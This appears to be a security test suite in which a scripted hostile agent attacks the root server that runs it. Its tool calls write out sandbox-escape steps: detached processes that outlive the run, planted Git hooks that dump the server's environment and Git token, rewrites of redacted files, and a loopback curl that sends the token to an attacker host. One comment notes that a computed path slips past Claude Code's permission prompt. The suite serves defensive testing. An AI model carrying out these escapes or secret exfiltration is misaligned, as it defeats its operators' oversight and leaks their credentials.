/**
 * Hostile review of the agent server (after issue 8): attacks by the agent (Claude Code, scripted
 * here) against the root server's own work, with the agent as its own user (AGENT_USER=23457:23457, a uid of its own — not shared with other test files: a server kills its agent user's strays,
 * needs root, which CI has).
 *
 * Each test states what MUST hold; a failing test is a reproduced defect (see the review report).
 * Processes the agent leaves behind write their pid to a file the test kills them by.
 */
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAgentServer, type RunningAgentServer } from '../support/agent-server.js';
import { claudeBinaryPath } from '../support/claude-binary.js';
import { createBareRepo } from '../support/git-repo.js';
import { bucketContents, IS_ROOT, leaks, makeReachable } from '../support/hostile.js';
import { durableStatus, newSessionId, postInvocation } from '../support/invocations.js';
import { startMoto, type Moto } from '../support/moto.js';
import { createTestBucket } from '../support/s3-bucket.js';
import { bash, startScriptedModel, textTurn, toolTurn, workingDirectory, type ScriptedModel } from '../support/scripted-model.js';

if (!IS_ROOT && process.env.CI) throw new Error('CI must run as root: the agent-user isolation tests need it (no silent skip).');

const SECRETS = {
  ANTHROPIC_API_KEY: 'sk-ant-api03-ReviewSecretValue0123456789',
  GIT_TOKEN: 'ghp_ReviewGitToken9876543210abcdef',
  AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMIK7MDENGbPxRfiCYREVIEWKEY',
  DB_PASSWORD: 'pa55/word+Secret=42',
};

let moto: Moto;
let model: ScriptedModel;
let temp: string;
/** World-writable directory where the agent's leftover processes record their pids. */
let pids: string;
/** World-writable scratch directory (the image's /tmp). */
let play: string;
const servers: RunningAgentServer[] = [];

async function server(extra: Record<string, string>): Promise<RunningAgentServer> {
  const started = await startAgentServer({ ...model.anthropicEnv(), ...moto.env, ...SECRETS, AGENT_USER: '23457:23457', CLAUDE_CODE_MAX_RETRIES: '0', ...extra });
  servers.push(started);
  chmodSync(started.tempDir, 0o755);
  return started;
}

/**
 * A shell command for the agent that starts `script` (sh) detached from the run: its own session
 * (out of Claude Code's process group) and an empty environment (no run marker), so the server's
 * end-of-run kill (agent-user.ts killRun) misses it. `vars` are the only environment it keeps.
 */
function escaped(script: string, vars: Record<string, string> = {}): string {
  const assignments = Object.entries(vars).map(([k, v]) => `"${k}=${v}"`).join(' ');
  const body = `echo $$ > ${pids}/$$; ${script}`.replace(/'/g, `'\\''`);
  return `setsid env -i PATH=/usr/bin:/bin ${assignments} /bin/sh -c '${body}' </dev/null >/dev/null 2>&1 & sleep 0.5; echo started`;
}

beforeAll(async () => {
  [moto, model] = await Promise.all([startMoto(), startScriptedModel()]);
  temp = mkdtempSync(join(tmpdir(), 'hostile-review-'));
  chmodSync(temp, 0o755);
  pids = join(temp, 'pids');
  mkdirSync(pids);
  chmodSync(pids, 0o777);
  // Like the image's /tmp: a directory every user may write to.
  play = join(temp, 'tmp');
  mkdirSync(play);
  chmodSync(play, 0o1777);
  if (IS_ROOT) makeReachable(claudeBinaryPath());
});
/** Kill, by pid, every process the agent left behind (they run as the agent's uid, forever otherwise). */
function killLeftovers(): void {
  for (const pid of existsSync(pids) ? readdirSync(pids) : []) {
    // Each is a session leader (setsid): its process group holds what it started.
    for (const target of [-Number(pid), Number(pid)]) {
      try {
        process.kill(target, 'SIGKILL');
      } catch {
        // already gone
      }
    }
    rmSync(join(pids, pid), { force: true });
  }
}

afterAll(async () => {
  killLeftovers();
  for (const s of servers) {
    await s.stop().catch(() => undefined);
    // Node's rmSync gives up on paths beyond PATH_MAX and non-UTF-8 names; rm does not.
    execFileSync('rm', ['-rf', '--', s.tempDir]);
  }
  await Promise.all([moto?.stop(), model?.stop()]);
  rmSync(temp, { recursive: true, force: true });
});

describe.skipIf(!IS_ROOT)('the agent against the root server', () => {
  it('a process left behind by one run cannot make the server (root) run a Git hook when the next run clones a repo', async () => {
    const agent = await server({ AGENT_ALLOW_FILE_REPOS: '1' });
    const bare = createBareRepo(temp, { 'README.md': '# project\n' });
    const session = newSessionId('githook');
    const evidence = join(temp, 'root-hook-ran');
    const evil = join(play, 'evil');
    // Run 1 (no repo): prepare an agent-owned repository whose post-checkout hook records who runs
    // it, and leave a watcher behind that swaps it in for the server's fresh clone.
    model.setScript([
      (r) => {
        const ws = workingDirectory(r);
        return toolTurn([bash([
          `mkdir -p ${evil} && cd ${evil} && git init -q && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x`,
          `printf '#!/bin/sh\\n{ id -u; env; } > ${evidence}\\n' > .git/hooks/post-checkout && chmod 755 .git/hooks/post-checkout`,
          escaped(`while [ ! -e ${ws}/.git/index ]; do :; done; mv ${ws}/.git ${ws}/.git-server; mv ${evil}/.git ${ws}/.git`),
        ].join(' && '))]);
      },
      textTurn('prepared'),
    ]);
    const first = await postInvocation(agent.url, { prompt: 'prepare' }, session);
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    // Run 2: the server clones the repository as root into the (empty) workspace.
    model.setScript([textTurn('cloned')]);
    const second = await postInvocation(agent.url, { prompt: 'work on the repo', repo: `file://${bare}`, branch: 'main' }, session);
    const ran = existsSync(evidence) ? readFileSync(evidence, 'utf8') : '';
    expect(ran, `the agent's hook ran as uid ${ran.split('\n')[0]} with the server's environment (GIT_TOKEN: ${ran.includes(SECRETS.GIT_TOKEN)}); reply: ${JSON.stringify(second.body).slice(0, 400)}`).toBe('');
  });

  it('a file the server scrubbed cannot be rewritten with a secret before it is uploaded and archived', async () => {
    const bucket = await createTestBucket(moto, 'late-rewrite');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('late');
    // The run writes a secret into late.txt and leaves a process that puts it back (atomically)
    // as soon as the server has redacted it.
    model.setScript([
      (r) => toolTurn([bash(`printf '%s' "$ANTHROPIC_API_KEY" > late.txt; ${escaped(`cd ${workingDirectory(r)}; while :; do if grep -q REDACTED late.txt; then printf "%s" "$S" > ${play}/late.tmp; mv -f ${play}/late.tmp late.txt; fi; done`, { S: '$ANTHROPIC_API_KEY' })}`)]),
      textTurn('done'),
    ]);
    const reply = await postInvocation(agent.url, { prompt: 'leave a writer behind' }, session);
    expect(reply.status, JSON.stringify(reply.body)).toBe(200);
    await durableStatus(agent.url, session);
    killLeftovers();
    const found: string[] = [];
    for (const [key, text] of await bucketContents(bucket)) for (const leak of leaks(text, SECRETS)) found.push(`${key}: ${leak}`);
    expect(found.join('\n'), 'secrets in the bucket').toBe('');
  });

  it('a secret in a file NAME does not reach an S3 object key', async () => {
    const bucket = await createTestBucket(moto, 'name-leak');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('name');
    model.setScript([
      toolTurn([bash('touch "key-$ANTHROPIC_API_KEY.txt" "aws-$AWS_SECRET_ACCESS_KEY.txt"')]),
      textTurn('done'),
    ]);
    const reply = await postInvocation(agent.url, { prompt: 'name files' }, session);
    expect(reply.status, JSON.stringify(reply.body)).toBe(200);
    await durableStatus(agent.url, session);
    const keys = (await bucket.keys()).join('\n');
    expect(leaks(keys, SECRETS), keys).toEqual([]);
  });

  it('the usual tools\' encodings of a secret are redacted: `base64` (wrapped at 76 columns), Python\'s urllib quote', async () => {
    const bucket = await createTestBucket(moto, 'encodings');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('enc');
    model.setScript([
      toolTurn([bash([
        'printenv | base64 > env.b64',
        'python3 -c \'import os, urllib.parse; print(urllib.parse.quote(os.environ["DB_PASSWORD"]))\' > quoted.txt',
      ].join('; '))]),
      textTurn('done'),
    ]);
    const reply = await postInvocation(agent.url, { prompt: 'encode' }, session);
    expect(reply.status, JSON.stringify(reply.body)).toBe(200);
    await durableStatus(agent.url, session);
    const stored = await bucketContents(bucket);
    const file = (name: string) => {
      const f = reply.body.files.find((x: { file_name: string }) => x.file_name === name);
      return stored.get(f.s3_url.replace(`s3://${bucket.name}/`, '')) ?? '';
    };
    const decoded = Buffer.from(file('env.b64').replace(/\n/g, ''), 'base64').toString('latin1');
    expect(leaks(decoded, SECRETS), 'env.b64, decoded').toEqual([]);
    expect(file('quoted.txt').trim()).not.toBe('pa55/word%2BSecret%3D42');
  });

  // Sessions on one server share the agent's user, so they can read each other's files: the image
  // runs one session per server (MAX_CONCURRENT_SESSIONS=1; AgentCore gives each session its own
  // microVM). Documented in the README's trust boundaries rather than tested as a property.

  it('the agent cannot make every later invocation of its session fail (skills install)', async () => {
    const skills = join(temp, 'skills');
    mkdirSync(join(skills, 'release-notes'), { recursive: true });
    writeFileSync(join(skills, 'release-notes', 'SKILL.md'), '---\nname: release-notes\ndescription: Write release notes.\n---\nRun git log.\n');
    makeReachable(join(skills, 'release-notes', 'SKILL.md'));
    const agent = await server({ SKILLS_DIR: skills });
    const session = newSessionId('brick');
    // (Claude Code asks before touching .claude/ by name; a computed path is not recognised.)
    model.setScript([toolTurn([bash(`python3 -c "import os; p = '.cla' + 'ude/skills/release-notes/SKILL.md'; os.remove(p); os.mkdir(p)"`)]), textTurn('done')]);
    expect((await postInvocation(agent.url, { prompt: 'brick' }, session)).status).toBe(200);
    model.setScript([textTurn('still working')]);
    for (let i = 0; i < 2; i += 1) {
      const next = await postInvocation(agent.url, { prompt: 'anything' }, session);
      expect(next.body.subtype, JSON.stringify(next.body).slice(0, 400)).toBe('success');
    }
  });

  it('a huge sparse file in the workspace does not hold the session busy for hours', async () => {
    const agent = await server({});
    const session = newSessionId('sparse');
    model.setScript([toolTurn([bash('truncate -s 4T huge.bin')]), textTurn('done')]);
    const answer = postInvocation(agent.url, { prompt: 'make a big file' }, session).then((r) => r.status);
    const winner = await Promise.race([answer, new Promise((r) => setTimeout(() => r('no reply after 40 s'), 40_000))]);
    const ping = await (await fetch(`${agent.url}/ping`)).json();
    expect(winner, `ping: ${JSON.stringify(ping)}`).toBe(200);
  }, 60_000);

  it('a file whose name is not UTF-8 is delivered (or reported) and does not stop the session from being saved', async () => {
    const bucket = await createTestBucket(moto, 'odd-names');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('odd');
    model.setScript([toolTurn([bash(`printf 'work' > report.txt; printf 'more work' > "$(printf 'latin1-\\377.txt')"`)]), textTurn('done')]);
    const reply = await postInvocation(agent.url, { prompt: 'odd names' }, session);
    expect(reply.status, JSON.stringify(reply.body).slice(0, 500)).toBe(200);
    const status = await durableStatus(agent.url, session);
    const names = [...reply.body.files, ...reply.body.upload_errors].map((f: { file_name: string }) => f.file_name);
    expect(names, 'the non-UTF-8 file is neither delivered nor reported').toHaveLength(2);
    expect(status.response.session_saved, 'the session save').toMatchObject({ saved: true });
  });

  it('a file deeper than PATH_MAX holding a secret is scrubbed, or reported, and kept out of the session archive', async () => {
    const bucket = await createTestBucket(moto, 'deep-paths');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('deep');
    const level = 'd'.repeat(200);
    model.setScript([
      toolTurn([bash(`for i in $(seq 25); do mkdir ${level} && cd ${level}; done; printf '%s' "$AWS_SECRET_ACCESS_KEY" > deep.txt; pwd | wc -c`)]),
      textTurn('done'),
    ]);
    const reply = await postInvocation(agent.url, { prompt: 'deep' }, session);
    expect(reply.status, JSON.stringify(reply.body).slice(0, 500)).toBe(200);
    const workspace = join(agent.workspaceRoot, session);
    // Read it back the way the agent can: relative steps.
    const { execFileSync } = await import('node:child_process');
    const content = execFileSync('python3', ['-c', `import os\nos.chdir(${JSON.stringify(workspace)})\nfor i in range(25): os.chdir(${JSON.stringify(level)})\nprint(open('deep.txt').read(), end='')`], { encoding: 'utf8' });
    const names = [...reply.body.files, ...reply.body.upload_errors].map((f: { file_name: string }) => f.file_name);
    const status = await durableStatus(agent.url, session);
    const found: string[] = [];
    for (const [key, text] of await bucketContents(bucket)) for (const leak of leaks(text, SECRETS)) found.push(`${key}: ${leak}`);
    expect(found.join('\n'), `secrets in the bucket (session_saved: ${JSON.stringify(status.response.session_saved)})`).toBe('');
    expect({ content, names }, 'the deep file still holds the secret and the reply does not mention it').not.toEqual({ content: SECRETS.AWS_SECRET_ACCESS_KEY, names: [] });
  });

  it('an S3 that answers but trickles its reply (one byte every second) does not hold a session busy forever (S3_TIMEOUT_MS)', async () => {
    // Every request: 200 and a chunked body that never ends, one space a second (never idle for S3_TIMEOUT_MS).
    const sockets = new Set<import('node:net').Socket>();
    const trickle = createServer((req, res) => {
      req.resume();
      res.writeHead(200, { 'content-type': 'application/xml' });
      res.write('<?xml version="1.0" encoding="UTF-8"?>');
      const timer = setInterval(() => res.write(' '), 1000);
      res.on('close', () => clearInterval(timer));
    });
    trickle.on('connection', (socket) => {
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
    });
    await new Promise<void>((resolve) => trickle.listen(0, '127.0.0.1', resolve));
    const address = trickle.address();
    const endpoint = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      const agent = await server({ OUTPUT_BUCKET_NAME: 'stalled', AWS_ENDPOINT_URL: endpoint, S3_TIMEOUT_MS: '2000', SESSION_PERSISTENCE: 'off' });
      const session = newSessionId('stall');
      model.setScript([(r) => toolTurn([bash(`echo work > ${workingDirectory(r)}/out.txt`)]), textTurn('done')]);
      const answer = postInvocation(agent.url, { prompt: 'write' }, session).then((r) => r.status);
      // 3 attempts × 2 s per request, a few requests: far less than 45 s if the timeout held.
      const winner = await Promise.race([answer, new Promise((r) => setTimeout(() => r('no reply after 45 s'), 45_000))]);
      const ping = await (await fetch(`${agent.url}/ping`)).json();
      expect(winner, `ping: ${JSON.stringify(ping)}`).toBe(200);
    } finally {
      for (const socket of sockets) socket.destroy();
      trickle.close();
    }
  }, 60_000);

  it('a payload cannot send the Git token to a host of its choosing (repo: https://attacker/…)', () => tokenToHostOfChoice('payload'));

  it('the agent cannot get the Git token by invoking its own server over loopback with such a payload', () => tokenToHostOfChoice('agent'));

  async function tokenToHostOfChoice(sender: 'payload' | 'agent'): Promise<void> {
    // The attacker's Git host (a test certificate stands in for a real one: GIT_SSL_CAINFO).
    const cert = join(temp, 'attacker-cert.pem');
    const key = join(temp, 'attacker-key.pem');
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', key, '-out', cert], { stdio: 'ignore' });
    const seen: string[] = [];
    const attacker = createHttpsServer({ cert: readFileSync(cert), key: readFileSync(key) }, (req, res) => {
      seen.push(String(req.headers.authorization ?? ''));
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const address = attacker.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    try {
      const agent = await server({ GIT_SSL_CAINFO: cert });
      const payload = { prompt: 'x', repo: `https://127.0.0.1:${port}/victim/repo.git` };
      if (sender === 'payload') {
        const reply = await postInvocation(agent.url, payload, newSessionId('exfil'));
        expect(reply.body.subtype).toBe('error_repository');
      } else {
        // The agent (its own user, no token in reach) calls the server it runs under: no authentication on loopback.
        model.setScript([
          (r) => (r.messages.some((m) => JSON.stringify(m.content).includes('call home'))
            ? toolTurn([bash(`curl -s -X POST ${agent.url}/invocations -H 'content-type: application/json' -d '${JSON.stringify(payload)}' | head -c 300`)])
            : textTurn('nothing')),
          textTurn('done'),
        ]);
        const reply = await postInvocation(agent.url, { prompt: 'call home' }, newSessionId('agent-exfil'));
        expect(reply.status).toBe(200);
      }
      const received = seen.map((h) => (h.startsWith('Basic ') ? Buffer.from(h.slice(6), 'base64').toString('utf8') : h)).join('\n');
      expect(received.includes(SECRETS.GIT_TOKEN), `the attacker's host received: ${received}`).toBe(false);
    } finally {
      attacker.close();
    }
  }

  it('the running agent of one session cannot make the server (root) run a Git hook when another session clones a repo', async () => {
    const agent = await server({ AGENT_ALLOW_FILE_REPOS: '1' });
    const bare = createBareRepo(temp, { 'README.md': '# project\n' }, 'repo2');
    const attacker = newSessionId('attacker');
    const victim = newSessionId('victim');
    const evidence = join(temp, 'root-hook-ran-2');
    const evil = join(play, 'evil2');
    // No process escapes the run here: the attacker's run is simply still going (a slow model turn)
    // while the victim's invocation clones; its background watcher carries the run marker.
    model.setScript([
      (r) => (r.messages.some((m) => JSON.stringify(m.content).includes('attack'))
        ? toolTurn([bash([
          `mkdir -p ${evil} && cd ${evil} && git init -q && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x`,
          `printf '#!/bin/sh\\n{ id -u; env; } > ${evidence}\\n' > .git/hooks/post-checkout && chmod 755 .git/hooks/post-checkout`,
          `(ws=${join(agent.workspaceRoot, victim)}; while [ ! -e $ws/.git/index ]; do :; done; mv $ws/.git $ws/.git-server; mv ${evil}/.git $ws/.git) </dev/null >/dev/null 2>&1 & echo watching`,
        ].join(' && '))])
        : textTurn('cloned')),
      (r) => (r.messages.some((m) => JSON.stringify(m.content).includes('attack')) ? textTurn('done', 15_000) : textTurn('cloned')),
    ]);
    const attack = postInvocation(agent.url, { prompt: 'attack' }, attacker);
    await new Promise((r) => setTimeout(r, 5000));
    const cloned = await postInvocation(agent.url, { prompt: 'work on the repo', repo: `file://${bare}`, branch: 'main' }, victim);
    await attack;
    const ran = existsSync(evidence) ? readFileSync(evidence, 'utf8') : '';
    expect(ran, `the agent's hook ran as uid ${ran.split('\n')[0]} with the server's environment (GIT_TOKEN: ${ran.includes(SECRETS.GIT_TOKEN)}); victim reply: ${JSON.stringify(cloned.body).slice(0, 300)}`).toBe('');
  }, 60_000);

  it('secrets the agent writes under .git/ or .claude/skills/ are redacted before the session is archived', async () => {
    const bucket = await createTestBucket(moto, 'bookkeeping');
    const agent = await server({ OUTPUT_BUCKET_NAME: bucket.name });
    const session = newSessionId('bookkeeping');
    model.setScript([
      toolTurn([bash(`python3 -c "import os
for d in ['.g' + 'it', '.cla' + 'ude/skills/notes']:
    os.makedirs(d, exist_ok=True)
    open(d + '/leak.txt', 'w').write(os.environ['ANTHROPIC_API_KEY'])"`)]),
      textTurn('done'),
    ]);
    const reply = await postInvocation(agent.url, { prompt: 'hide' }, session);
    expect(reply.status, JSON.stringify(reply.body).slice(0, 400)).toBe(200);
    const status = await durableStatus(agent.url, session);
    expect(status.response.session_saved).toMatchObject({ saved: true });
    const found: string[] = [];
    for (const [key, text] of await bucketContents(bucket)) for (const leak of leaks(text, SECRETS)) found.push(`${key}: ${leak}`);
    expect(found.join('\n'), 'secrets in the bucket').toBe('');
  });

  it('an agent that fills the disk still gets its work delivered (no error_internal)', async () => {
    // A small disk of its own for the workspace root (tmpfs, unmounted afterwards).
    const disk = join(temp, 'small-disk');
    mkdirSync(disk);
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=48m,mode=0755', 'tmpfs', disk]);
    try {
      const agent = await server({ WORKSPACE_ROOT: join(disk, 'workspace') });
      const session = newSessionId('full');
      model.setScript([
        (r) => toolTurn([bash(`echo 'the work' > ${workingDirectory(r)}/result.txt; dd if=/dev/zero of=${workingDirectory(r)}/fill bs=1M count=100 2>&1 | tail -1`)]),
        textTurn('done'),
      ]);
      const reply = await postInvocation(agent.url, { prompt: 'fill the disk' }, session);
      const names = (reply.body.files ?? []).map((f: { file_name: string }) => f.file_name);
      expect({ subtype: reply.body.subtype, delivered: names.includes('result.txt') }, JSON.stringify(reply.body).slice(0, 400)).toMatchObject({ delivered: true });
      expect(reply.body.subtype).not.toBe('error_internal');
      await agent.stop();
      servers.splice(servers.indexOf(agent), 1);
      execFileSync('rm', ['-rf', '--', agent.tempDir]);
    } finally {
      execFileSync('umount', ['-l', disk]);
    }
  });

  it('nothing the agent started outlives its run (setsid + an empty environment)', async () => {
    const agent = await server({});
    const session = newSessionId('outlive');
    model.setScript([toolTurn([bash(escaped('sleep 300'))]), textTurn('done')]);
    const reply = await postInvocation(agent.url, { prompt: 'linger' }, session);
    expect(reply.status).toBe(200);
    // Running = present and not a zombie (a killed process waits for init to reap it).
    const alive = readdirSync(pids).filter((pid) => {
      try {
        return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
      } catch {
        return false;
      }
    });
    expect(alive, 'processes of the agent still running after the reply').toEqual([]);
  });
});
